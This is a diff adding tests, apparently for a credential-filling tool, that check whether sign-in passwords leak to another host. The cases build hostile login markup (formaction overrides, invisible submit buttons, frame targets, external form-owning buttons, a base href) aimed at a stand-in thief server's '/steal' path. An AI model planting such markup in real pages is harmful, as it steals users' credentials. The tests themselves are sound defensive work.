@@ -86,6 +86,70 @@ describe('what was typed goes nowhere but to the site', () => {
   });
 });
 
+describe('markup alone cannot send what is typed to where it was not read that it goes', () => {
+  const WITH = (button: string, form = '', more = '') =>
+    `<h1>Sign in</h1><form id="f" method="post" action="/session" ${form}><label>Username <input name="user"></label>
+     <label>Password <input type="password" name="pass"></label><button ${button}>Sign in</button></form>${more}`;
+  const CASES: readonly (readonly [string, (url: string) => string])[] = [
+    ['formaction', (url) => WITH(`formaction="${url}"`)],
+    [
+      'formaction into a frame',
+      (url) => WITH(`formaction="${url}" formtarget="fr"`, '', '<iframe name="fr"></iframe>'),
+    ],
+    [
+      'formaction as an address, into a frame',
+      (url) => WITH(`formaction="${url}" formmethod="get" formtarget="fr"`, '', '<iframe name="fr"></iframe>'),
+    ],
+    [
+      'formaction into a frame of the other site',
+      (url) => WITH(`formaction="${url}" formtarget="fr"`, '', `<iframe name="fr" src="${url}"></iframe>`),
+    ],
+    [
+      'a button of its own inside the button',
+      (url) =>
+        WITH('type="button"').replace(
+          'Sign in</button>',
+          `<input type="submit" formaction="${url}" value="Sign in"></button>`,
+        ),
+    ],
+    [
+      'a button elsewhere that owns the form',
+      (url) => WITH('hidden', '', `<button form="f" formaction="${url}">Sign in</button>`),
+    ],
+    ['the button that Enter presses', (url) => WITH(`formaction="${url}" style="position:absolute;opacity:0"`)],
+    ['a base', (url) => `<base href="${url}">${WITH('formaction=" "')}`],
+    ['a method of its own', () => WITH('formmethod="get"')],
+  ];
+  it.each(CASES)('by %s', async (_, form) => {
+    const other = await thief();
+    const site = closing(
+      await startSite(({ method }) => (method === 'POST' ? page('in') : page(form(`${other.url}/steal`)))),
+    );
+    // Pages of the other may be opened too: what counts is where it was read that the form goes.
+    const connection = await connect(site, { allow: [site.host, other.host] });
+    await connection.login();
+    await connection.fill(VALUES);
+    const told = JSON.stringify([...other.requests, ...site.requests].map(({ query, body }) => [...query, ...body]));
+    expect(told).not.toContain(VALUES.password);
+  });
+
+  it('where the site itself sends it, it still goes', async () => {
+    const site = closing(
+      await startSite(({ method, path }) =>
+        method === 'POST'
+          ? { location: `/home?${path}` }
+          : page(WITH('formaction="/other" formmethod="post"', '', '<iframe name="fr"></iframe>')),
+      ),
+    );
+    const connection = await connect(site);
+    await connection.login();
+    await connection.fill(VALUES);
+    expect(
+      site.requests.filter(({ method }) => method === 'POST').map(({ path, body }) => [path, body.get('pass')]),
+    ).toEqual([['/other', VALUES.password]]);
+  });
+});
+
 describe('an address of this machine is only open when it was named with its port', () => {
   it('a redirect to it is not followed', async () => {
     const other = await thief();
